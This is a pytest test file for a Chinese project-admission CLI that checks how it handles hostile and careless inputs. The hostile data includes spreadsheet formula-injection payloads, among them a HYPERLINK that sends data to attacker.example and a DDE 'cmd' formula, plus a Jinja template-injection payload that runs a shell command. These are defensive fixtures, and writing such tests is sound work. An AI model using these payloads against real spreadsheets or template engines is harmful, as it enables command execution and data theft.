"""Hostile and careless inputs and output paths: each ends in a clear Chinese message and its exit code.

Every test here failed before the fix it names (checked against the release before the fixes).
Commands that could hang are run as real processes with a generous timeout that guards the
suite, not a timing assertion: speed is measured in bench/.
"""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import shutil
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from admission.cli import main
from admission.cli.shell import _LazyCommands
from admission.intake.batch import CHUNK, evaluate_all, worker_count
from admission.intake.sources import Item
from admission.intake.workbook import COLUMNS, EXAMPLE_ROW
from admission.interrupts import Interrupted, held_signals, install_signal_handlers
from admission.rules.rulebook import load_rulebook

from .conftest import REVIEW_DATE, ROOT, SAMPLES_DIR
from .helpers import copy_rules, edit_rules, sample, write_json
from .pdf_tools import pdf_text

AS_OF = ["--as-of", REVIEW_DATE.isoformat()]
ADMIT = [sys.executable, "-m", "admission"]
HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def run_process(*args: str, timeout: float = 120, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*ADMIT, *args], capture_output=True, text=True, timeout=timeout, cwd=ROOT, check=False, **kwargs)


def intake_workbook(path: Path, rows: list[dict[str, Any]], headers: list[str] | None = None) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    headers = headers or [c.header for c in COLUMNS]
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(h) for h in headers])
    workbook.save(path)
    return path


def example_row(case_id: str, **changes: Any) -> dict[str, Any]:
    return {**EXAMPLE_ROW, "案件编号": case_id, "项目名称": f"项目{case_id}", **changes}


# --- 1. formula injection -------------------------------------------------------------------------


def test_user_text_is_inert_in_csv_and_xlsx(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for index, name in enumerate(HOSTILE_NAMES):
        app = sample("industrial-approve.json")
        app["id"], app["name"] = f"JM-H-{index}", name.replace("\t", " ").replace("\r", " ")  # a name with a tab is invalid
        write_json(folder / f"{index}.json", app)
    write_json(folder / "=1+1.json", {"broken": True})  # a hostile file name reaches the 来源 column
    intake = intake_workbook(tmp_path / "intake.xlsx", [example_row("JM-X-1", **{"项目名称": HOSTILE_NAMES[0] + "x"})])
    csv_path, xlsx_path = tmp_path / "r.csv", tmp_path / "r.xlsx"
    code, _, _ = run("screen", *AS_OF, str(folder), str(intake), "--csv", str(csv_path), "--xlsx", str(xlsx_path))
    assert code == 2  # the broken file

    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    fields = [field for row in rows[1:] for field in row]
    dangerous = [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert "'" + HOSTILE_NAMES[0].replace("\t", " ") in fields

    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)
    hostile = [c for c in cells if c.value and c.value[0] in "=+-@"]
    assert {c.value for c in hostile} >= {HOSTILE_NAMES[0], HOSTILE_NAMES[1], "+1+2", "-3+4", "@SUM(A1)"}
    assert all(c.quotePrefix for c in hostile)
    with zipfile.ZipFile(xlsx_path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


# --- 2 and 3. templates: sandboxed, and confined to their folders --------------------------------


def test_template_cannot_run_commands(tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    templates.mkdir()
    marker = tmp_path / "pwned"
    (templates / "opinion.html.j2").write_text(
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}", encoding="utf-8"
    )
    application = str(SAMPLES_DIR / "industrial-approve.json")
    code, _, err = run("check", *AS_OF, application, "--html", str(tmp_path / "o.html"), "--templates", str(templates))
    assert code == 74
    assert "不允许" in err and "Traceback" not in err
    assert not marker.exists() and not (tmp_path / "o.html").exists()


@pytest.mark.parametrize("how", ["symlink", "dotdot"])
def test_template_cannot_read_files_outside_its_folders(tmp_path: Path, how: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    templates = tmp_path / "templates"
    templates.mkdir()
    if how == "symlink":
        (templates / "style.css").symlink_to(secret)
        include = "style.css"
    else:
        include = "../secret.txt"
    (templates / "opinion.html.j2").write_text(f'<html><body>{{% include "{include}" %}}</body></html>', encoding="utf-8")
    out = tmp_path / "o.html"
    code, _, err = run("check", *AS_OF, str(SAMPLES_DIR / "industrial-approve.json"), "--html", str(out), "--templates", str(templates))
    assert code == 74, err
    assert "模板" in err and "TOP-SECRET" not in err
    assert not out.exists()


# --- 4. devices, folders, links and inputs are never overwritten --------------------------------


def _special_files(tmp_path: Path) -> dict[str, Path]:
    found = {"fifo": tmp_path / "fifo", "directory": tmp_path / "folder", "symlink": tmp_path / "link.csv"}
    os.mkfifo(found["fifo"])
    found["directory"].mkdir()
    (tmp_path / "real.csv").write_text("keep", encoding="utf-8")
    found["symlink"].symlink_to(tmp_path / "real.csv")
    if os.geteuid() == 0:  # a character device like /dev/null, made here rather than risking the real one
        found["device"] = tmp_path / "null"
        os.mknod(found["device"], stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return found


@pytest.mark.parametrize("option", ["--csv", "--xlsx"])
def test_special_output_paths_are_refused_before_any_work(tmp_path: Path, option: str) -> None:
    for kind, path in _special_files(tmp_path).items():
        before = os.lstat(path)
        code, out, err = run("screen", *AS_OF, str(SAMPLES_DIR / "industrial-approve.json"), option, str(path))
        if kind == "directory":  # click refuses it as a usage error, in Chinese
            assert code == 2 and "是目录" in err, err
        else:
            assert code == 73, (kind, err)
            assert err.startswith("错误：拒绝写入") and out == ""
        after = os.lstat(path)
        assert stat.S_IFMT(after.st_mode) == stat.S_IFMT(before.st_mode) and after.st_ino == before.st_ino, kind
    assert (tmp_path / "real.csv").read_text(encoding="utf-8") == "keep"


def test_outputs_never_overwrite_inputs(tmp_path: Path) -> None:
    intake = intake_workbook(tmp_path / "intake.xlsx", [example_row("JM-1")])
    original = intake.read_bytes()
    code, _, err = run("screen", *AS_OF, str(intake), "--xlsx", str(intake))
    assert code == 2 and "输出不能覆盖输入" in err
    assert intake.read_bytes() == original

    folder = tmp_path / "apps"
    folder.mkdir()
    app = write_json(folder / "a.json", sample("industrial-approve.json"))
    app_text = app.read_text(encoding="utf-8")
    assert run("check", *AS_OF, str(app), "--html", str(app))[0] == 2
    assert run("screen", *AS_OF, str(folder), "--csv", str(app))[0] == 2  # a file found inside a folder
    assert run("packet", *AS_OF, str(folder), "--html", str(app))[0] == 2
    assert run("screen", *AS_OF, str(folder), "--csv", str(tmp_path / "r"), "--xlsx", str(tmp_path / "r"))[0] == 2
    assert app.read_text(encoding="utf-8") == app_text


def test_template_refuses_an_existing_file_unless_forced(tmp_path: Path) -> None:
    target = tmp_path / "intake.xlsx"
    target.write_bytes(b"filled in by a clerk")
    code, _, err = run("template", str(target))
    assert code == 73 and "--force" in err
    assert target.read_bytes() == b"filled in by a clerk"
    assert run("template", "--force", str(target))[0] == 0
    assert load_workbook(target).active is not None


# --- 5. extreme numbers: quick, short messages, never a verdict -------------------------------------


@pytest.mark.parametrize(
    ("field", "text", "message"),
    [
        ("land.area_mu", "1e-1000000", "数值过小"),
        ("commitments.rd_ratio", "1e-1000000", "数值过小"),
        ("commitments.annual_output_wan", "1e-1000000", "数值过小"),
        ("floor_area_m2", "1e999999999", "数值过大"),
        ("land.area_mu", "1e-310", "数值过小"),
        ("land.area_mu", "1" * 5000, "数值过大"),
        ("floor_area_m2", "1.00000000000000000000001", "有效数字过多"),
    ],
)
def test_extreme_numbers_are_refused_quickly_with_short_messages(tmp_path: Path, field: str, text: str, message: str) -> None:
    app = sample("industrial-approve.json")
    placeholder = "__NUMBER__"
    *parents, leaf = field.split(".")
    target = app
    for part in parents:
        target = target[part]
    target[leaf] = placeholder
    path = tmp_path / "a.json"
    path.write_text(json.dumps(app, ensure_ascii=False).replace(f'"{placeholder}"', text), encoding="utf-8")
    done = run_process("check", "--json", *AS_OF, str(path), timeout=60)
    assert done.returncode == 2
    problems = json.loads(done.stdout)["error"]["problems"]
    assert [p["path"] for p in problems] == [field]
    assert message in problems[0]["message"] and len(problems[0]["message"]) < 200
    assert len(done.stdout) + len(done.stderr) < 2000


@pytest.mark.parametrize(
    ("land", "expected"),
    [
        ({"area_mu": 53360}, "用地面积 53360 亩 疑似按平方米填写（折合 80.04 亩）"),
        ({"area_mu": 0.001}, "用地面积 0.00 亩超出合理范围"),
        ({"area_m2": 50}, "疑似按亩填写"),
    ],
)
def test_implausible_land_is_a_likely_unit_slip_not_a_verdict(tmp_path: Path, land: dict[str, Any], expected: str) -> None:
    app = sample("industrial-approve.json")
    app["land"] = land
    app.pop("footprint_m2", None)
    code, out, _ = run("check", "--json", *AS_OF, str(write_json(tmp_path / "a.json", app)))
    assert code == 2
    problems = json.loads(out)["error"]["problems"]
    assert problems[0]["path"].startswith("land.") and expected in problems[0]["message"], problems


def test_figures_typed_in_yuan_are_named(tmp_path: Path) -> None:
    app = sample("industrial-approve.json")
    app["commitments"]["annual_tax_wan"] = app["commitments"]["annual_tax_wan"] * 10000
    code, out, _ = run("check", "--json", *AS_OF, str(write_json(tmp_path / "a.json", app)))
    assert code == 2
    (problem,) = json.loads(out)["error"]["problems"]
    assert problem["path"] == "commitments.annual_tax_wan" and "疑似按元填写" in problem["message"]


@pytest.mark.parametrize("value", ["1e-1000000", "1e999999", "nan", "0.0000001"])
def test_rule_book_refuses_tiny_or_huge_numbers(tmp_path: Path, value: str) -> None:
    rules = copy_rules(tmp_path)
    edit_rules(rules, "JM-2022.toml", "tolerance = 0.2", f"tolerance = {value}")
    done = run_process("rules", "validate", str(rules), timeout=60)
    assert done.returncode == 2
    assert "special_review.tolerance" in done.stderr and "Traceback" not in done.stderr


def test_rule_book_refuses_an_integer_of_thousands_of_digits(tmp_path: Path) -> None:
    rules = copy_rules(tmp_path)
    edit_rules(rules, "JM-2022.toml", "major_total_investment = 100000", "major_total_investment = " + "9" * 5000)
    code, _, err = run("rules", "validate", str(rules))
    assert code == 2 and "JM-2022.toml" in err and "Traceback" not in err


# --- 6 and 11. workbooks as they really are --------------------------------------------------------


def _rewrite_sheet_xml(path: Path, change: Any) -> None:
    with zipfile.ZipFile(path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    members["xl/worksheets/sheet1.xml"] = change(members["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)


def test_a_workbook_that_understates_its_size_loses_no_rows(tmp_path: Path) -> None:
    path = intake_workbook(tmp_path / "intake.xlsx", [example_row(f"JM-{i}") for i in range(1, 6)])
    _rewrite_sheet_xml(path, lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:T2"', xml))
    code, out, _ = run("screen", "--json", *AS_OF, str(path))
    assert code == 0
    assert json.loads(out)["summary"]["total"] == 5


def test_a_styled_blank_cell_at_the_last_cell_of_a_sheet_is_no_hang(tmp_path: Path) -> None:
    path = intake_workbook(tmp_path / "intake.xlsx", [example_row("JM-1")])
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    from openpyxl.styles import Font

    sheet["XFD1048576"].font = Font(bold=True)
    workbook.save(path)
    done = run_process("screen", "--json", *AS_OF, str(path), timeout=300)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["summary"]["total"] == 1


# --- 7. control characters: invalid input, and never a crashed writer ---------------------------------


@pytest.mark.parametrize("character", ["\x01", "\x1b", "\u202e", "\u2066", "\x85"])
def test_control_and_bidi_characters_are_invalid(tmp_path: Path, character: str) -> None:
    app = sample("industrial-approve.json")
    app["name"] = f"正常名称{character}项目"
    app["applicant"]["name"] = f"投资{character}主体"
    code, out, _ = run("check", "--json", *AS_OF, str(write_json(tmp_path / "a.json", app)))
    assert code == 2
    paths = {p["path"]: p["message"] for p in json.loads(out)["error"]["problems"]}
    assert set(paths) == {"name", "applicant.name"}
    assert f"U+{ord(character):04X}" in paths["name"]


def test_a_file_name_with_control_characters_costs_no_output(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    write_json(folder / "ok.json", sample("industrial-approve.json"))
    write_json(folder / "bad\x01name.json", {"id": 1})
    xlsx_path = tmp_path / "r.xlsx"
    code, out, _ = run("screen", "--json", *AS_OF, str(folder), "--xlsx", str(xlsx_path))
    assert code == 2
    results = json.loads(out)["results"]
    assert len(results) == 2
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    sources = [c.value for c in sheet["A"][1:]]
    assert any("\\u0001" in str(s) for s in sources)


# --- 8. a character no font draws, in a packet ---------------------------------------------------


@pytest.mark.parametrize("good_count", [1, 5])  # one layout; laid out in parts (six blocks or more)
def test_packet_sets_aside_an_application_whose_name_no_font_draws(tmp_path: Path, good_count: int) -> None:
    # The packet is laid out before any probe: the boxes its layout draws send it to the probe,
    # which sets the project aside, and the packet is laid out again without it.
    folder = tmp_path / "in"
    folder.mkdir()
    good = sample("industrial-approve.json")
    bad = sample("logistics-approve.json")
    bad["name"] = "私用区\ue000项目"  # a private-use character: no font draws it
    for index in range(good_count):
        write_json(folder / f"good{index}.json", {**good, "id": f"JM-2026-090{index}"})
    write_json(folder / "bad.json", bad)
    pdf = tmp_path / "p.pdf"
    code, out, err = run("packet", *AS_OF, str(folder), "-o", str(pdf))
    assert code == 0, err
    assert f"{good_count} 个项目，1 份无效材料" in out
    text = pdf_text(pdf)
    assert good["name"] in text and "U+E000" in text and "bad.json" in text
    assert "sudo apt-get" not in err


# --- 9. duplicates, hidden sheets, formulas without values --------------------------------------------


def test_the_same_file_twice_is_screened_once_and_said(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    app = write_json(folder / "a.json", sample("industrial-approve.json"))
    code, out, err = run("screen", "--json", *AS_OF, str(folder), str(app), str(app))
    assert code == 0
    screened = json.loads(out)
    assert screened["summary"]["total"] == 1
    assert len(screened["notices"]) == 2 and "只审查一次" in err


def test_repeated_column_headers_are_reported_and_disagreeing_rows_refused(tmp_path: Path) -> None:
    headers = [c.header for c in COLUMNS] + ["项目名称"]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(headers)
    same = example_row("JM-1")
    sheet.append([same.get(h) for h in headers[:-1]] + [same["项目名称"]])
    other = example_row("JM-2")
    sheet.append([other.get(h) for h in headers[:-1]] + ["另一个名称"])
    path = tmp_path / "intake.xlsx"
    workbook.save(path)
    code, out, _ = run("screen", "--json", *AS_OF, str(path))
    assert code == 2
    screened = json.loads(out)
    results = {r["source"].rsplit("#", 1)[1]: r for r in screened["results"]}
    assert "1" not in results, "the header row is not an application"
    assert any("重复" in notice for notice in screened["notices"])
    assert "decision" in results["2"]
    assert "无法确定以哪一列为准" in results["3"]["error"]["problems"][0]["message"]


def test_a_formula_without_a_saved_result_is_named(tmp_path: Path) -> None:
    headers = [c.header for c in COLUMNS]
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(headers)
    row = example_row("JM-1")
    sheet.append([row.get(h) for h in headers])
    sheet.cell(row=2, column=headers.index("达产年税收（万元）") + 1, value="=100*30")  # openpyxl saves no result
    path = tmp_path / "intake.xlsx"
    workbook.save(path)
    code, out, _ = run("screen", "--json", *AS_OF, str(path))
    assert code == 2
    (problem,) = json.loads(out)["results"][0]["error"]["problems"]
    assert problem["path"] == "达产年税收（万元）" and "没有保存计算结果" in problem["message"]


def test_a_hidden_first_sheet_is_passed_over_and_said(tmp_path: Path) -> None:
    path = intake_workbook(tmp_path / "intake.xlsx", [example_row("JM-1")])
    workbook = load_workbook(path)
    hidden = workbook.create_sheet("旧数据", 0)
    hidden.append(["随便什么"])
    hidden.sheet_state = "hidden"
    workbook.save(path)
    code, out, err = run("screen", "--json", *AS_OF, str(path))
    assert code == 0, out
    assert json.loads(out)["summary"]["total"] == 1
    assert "隐藏的工作表" in err and "旧数据" in err


# --- 10. interruptions and a full disk --------------------------------------------------------------


def _many_applications(folder: Path, count: int) -> None:
    folder.mkdir()
    app = sample("industrial-approve.json")
    for index in range(count):
        app["id"] = f"JM-{index:05d}"
        write_json(folder / f"{index:05d}.json", app)


@pytest.mark.parametrize("delay", [0.15, 0.6, 1.2, 2.0])
def test_sigterm_cleans_up_like_sigint(tmp_path: Path, delay: float) -> None:
    _many_applications(tmp_path / "in", 3000)
    out = tmp_path / "out"
    out.mkdir()
    process = subprocess.Popen(
        [*ADMIT, "screen", *AS_OF, "--jobs", "1", str(tmp_path / "in"), "--csv", str(out / "r.csv"), "--xlsx", str(out / "r.xlsx")],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    time.sleep(delay)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=120)
    if process.returncode == 143:
        assert err.strip() == "已中断。"
    else:  # it finished first: then it finished properly
        assert process.returncode == 0, err
    assert "Traceback" not in err
    written = sorted(p.name for p in out.iterdir())
    assert written in ([], ["r.csv", "r.xlsx"])  # both or neither, and no .tmp debris


def test_ctrl_c_during_start_up_prints_no_traceback() -> None:
    for delay in (0.1, 0.2, 0.3):
        process = subprocess.Popen([*ADMIT, "rules", "list"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=ROOT)
        time.sleep(delay)
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
        assert "Traceback" not in err, err
        # -2: the signal came before the interpreter had set up any handler (silent, too).
        assert process.returncode in (0, 130, -signal.SIGINT)


def test_a_signal_during_a_command_import_waits_for_the_import() -> None:
    """A command module is imported whole, then the signal is delivered: pydantic builds its
    validators in Rust and once turned our Interrupted, raised half-way, into a SchemaError
    traceback. tests/signal_on_import.py runs the handler while it is being imported, as Python
    does in the main thread when another thread (a pool, the engine's timers) took the signal:
    blocking it in the main thread alone did not hold it."""
    previous = {number: signal.getsignal(number) for number in (signal.SIGINT, signal.SIGTERM)}
    install_signal_handlers()
    reached = []
    try:
        with pytest.raises(Interrupted) as raised, held_signals():
            handler = signal.getsignal(signal.SIGTERM)
            assert callable(handler)
            handler(signal.SIGTERM, None)
            reached.append("the end of the block")
        assert reached == ["the end of the block"] and raised.value.signal_number == signal.SIGTERM
        commands = _LazyCommands({}, {"probe": "tests.signal_on_import:probe"})
        with pytest.raises(Interrupted):
            commands["probe"]
        assert sys.modules["tests.signal_on_import"].finished  # the import ran to its end first
    finally:
        for number, handler in previous.items():
            signal.signal(number, handler)
        sys.modules.pop("tests.signal_on_import", None)


def _small_files() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # then a write past the limit fails with EFBIG
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def test_a_full_disk_is_one_clear_line(tmp_path: Path) -> None:
    _many_applications(tmp_path / "in", 200)
    done = run_process("screen", *AS_OF, str(tmp_path / "in"), "--xlsx", str(tmp_path / "r.xlsx"), preexec_fn=_small_files)
    assert done.returncode == 73
    assert done.stderr.strip().startswith("错误：无法") and "超出系统允许的大小" in done.stderr and "\n" not in done.stderr.strip()
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]


# --- 11. resource limits -------------------------------------------------------------------------


def test_non_regular_input_files_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    for path in ("/dev/zero", str(fifo)):
        done = run_process("check", "--json", *AS_OF, path, timeout=60)
        assert done.returncode == 2
        assert "不是普通文件" in json.loads(done.stdout)["error"]["problems"][0]["message"]


def test_a_huge_file_and_a_flood_of_unknown_keys_are_refused_briefly(tmp_path: Path) -> None:
    big = tmp_path / "big.json"
    big.write_text('{"id": "' + "x" * 2_000_000 + '"}', encoding="utf-8")
    code, out, _ = run("check", "--json", *AS_OF, str(big))
    assert code == 2 and "文件过大" in out

    app = sample("industrial-approve.json")
    app.update({f"unknown_{i}": i for i in range(40_000)})
    code, out, _ = run("check", "--json", *AS_OF, str(write_json(tmp_path / "keys.json", app)))
    assert code == 2
    problems = json.loads(out)["error"]["problems"]
    assert len(problems) <= 52 and "另有" in problems[-1]["message"]


def test_jobs_are_capped_at_the_work(tmp_path: Path, rulebook: Any) -> None:
    assert [worker_count(999_999, n) for n in (0, 1, CHUNK, CHUNK + 1, 10 * CHUNK)] == [1, 1, 1, 2, 10]
    folder = tmp_path / "in"
    _many_applications(folder, CHUNK + 1)
    items = [Item(str(p), path=p) for p in sorted(folder.iterdir())]
    results = evaluate_all(items, rulebook, REVIEW_DATE, jobs=999_999)
    assert len(results) == CHUNK + 1 and all("decision" in r for r in results)


# --- 12. rule sets larger than durable_rules' tables --------------------------------------------------


def test_a_rule_set_of_300_rules_is_evaluated(tmp_path: Path) -> None:
    rules = copy_rules(tmp_path)
    extra = "".join(
        f'\n[[rulesets.logistics.rules]]\nid = "plot_ratio_{i}"\nlabel = "容积率{i}"\nindicator = "plot_ratio"\noperator = ">="\n'
        f'thresholds = {{ 1 = 1.0, 2 = 1.0, 3 = {"9.0" if i == 299 else "1.0"} }}\nunit = ""\nseverity = "mandatory"\nsource = "测试"\n'
        for i in range(300)
    )
    path = rules / "JM-2022.toml"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
    assert load_rulebook(rules) is not None
    app = sample("logistics-approve.json")
    app["district"] = "台山市"
    code, out, err = run("check", "--json", *AS_OF, "--rules", str(rules), str(write_json(tmp_path / "a.json", app)))
    assert code == 1, err
    failed = [f["rule"] for f in json.loads(out)["findings"] if f["outcome"] == "fail"]
    assert failed == ["plot_ratio_299"]


# --- smaller ----------------------------------------------------------------------------------------


def test_wrong_kinds_are_named_in_chinese(tmp_path: Path) -> None:
    app = sample("industrial-approve.json")
    app["floor_area_m2"] = {"a": 1}
    app["name"] = "\\ud800"
    path = tmp_path / "a.json"
    path.write_text(json.dumps(app, ensure_ascii=False).replace("\\\\ud800", "\\ud800"), encoding="utf-8")
    code, out, _ = run("check", "--json", *AS_OF, str(path))
    assert code == 2
    problems = {p["path"]: p["message"] for p in json.loads(out)["error"]["problems"]}
    assert problems["floor_area_m2"] == "应为数字，实际为 JSON 对象"
    assert re.search(r"[\u4e00-\u9fff]", problems["name"]) and "Input should" not in problems["name"]


def test_a_date_cell_in_a_number_column_is_called_a_date(tmp_path: Path) -> None:
    from datetime import datetime

    path = intake_workbook(tmp_path / "i.xlsx", [example_row("JM-1", **{"达产年税收（万元）": datetime(2026, 11, 3)})])
    _, out, _ = run("screen", "--json", *AS_OF, str(path))
    (problem,) = json.loads(out)["results"][0]["error"]["problems"]
    assert "日期" in problem["message"] and "null" not in problem["message"]


def test_rule_book_dates_are_refused_in_chinese(tmp_path: Path) -> None:
    rules = copy_rules(tmp_path)
    edit_rules(rules, "JM-2022.toml", "effective_from = 2022-01-01", 'effective_from = "2022-13-01"')
    code, _, err = run("rules", "validate", str(rules))
    assert code == 2 and "应为日期" in err and "Input should" not in err


def test_click_path_errors_are_in_chinese(tmp_path: Path) -> None:
    code, _, err = run("check", *AS_OF, str(SAMPLES_DIR / "industrial-approve.json"), "--pdf", str(tmp_path))
    assert code == 2 and "是目录" in err and "is a directory" not in err


def test_not_a_workbook_is_said_in_chinese(tmp_path: Path) -> None:
    path = tmp_path / "intake.xlsx"
    path.write_text("not a zip", encoding="utf-8")
    code, out, _ = run("screen", "--json", *AS_OF, str(path))
    assert code == 2
    message = json.loads(out)["results"][0]["error"]["problems"][0]["message"]
    assert "不是有效的 Excel 工作簿" in message and "BadZipFile" not in message


def test_a_font_folder_with_xml_characters_in_its_path_works(tmp_path: Path) -> None:
    fonts = tmp_path / "字体 & <fonts>"
    fonts.mkdir()
    for found in Path("/usr/share/fonts/opentype/noto").glob("NotoSansCJK-Regular.ttc"):
        shutil.copy(found, fonts / found.name)
    done = run_process(
        "check", *AS_OF, str(SAMPLES_DIR / "industrial-approve.json"), "--pdf", str(tmp_path / "o.pdf"), "--font-dir", str(fonts)
    )
    assert done.returncode == 0, done.stderr
    assert "Fontconfig error" not in done.stderr


def test_a_long_unbroken_latin_name_stays_on_the_page(tmp_path: Path) -> None:
    app = sample("industrial-approve.json")
    app["name"] = "A" * 200
    pdf = tmp_path / "o.pdf"
    code, _, err = run("check", *AS_OF, str(write_json(tmp_path / "a.json", app)), "--pdf", str(pdf))
    assert code == 0, err
    layout = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    page_width = float(re.search(r'<page width="([\d.]+)"', layout).group(1))  # type: ignore[union-attr]
    right_edges = [float(x) for x in re.findall(r'xMax="([\d.]+)"', layout)]
    assert max(right_edges) <= page_width
    assert "A" * 200 in pdf_text(pdf).replace("\n", "")
